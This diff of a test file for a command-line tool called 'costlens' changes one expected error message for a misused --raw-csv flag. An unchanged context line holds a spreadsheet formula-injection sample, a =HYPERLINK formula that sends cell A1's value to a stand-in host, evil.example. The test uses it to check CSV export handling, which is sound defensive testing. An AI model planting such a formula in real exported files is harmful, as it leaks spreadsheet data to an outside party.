@@ -119,6 +119,6 @@ describe('every CSV meant for a spreadsheet', () => {
     expect(raw.stdout).toBe(`team,billed\r\nrefunds,-12.5000000000\r\n"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",10.0000000000\r\n`);
     const misuse = await costlens(db, 'sql', 'SELECT 1', '--raw-csv');
     expect(misuse.code).toBe(2);
-    expect(misuse.stderr).toBe('costlens: --raw-csv applies to --format csv only\n');
+    expect(misuse.stderr).toBe('costlens: --raw-csv applies to --format csv only\n  hint: run `costlens sql --help` for its options\n');
   });
 });
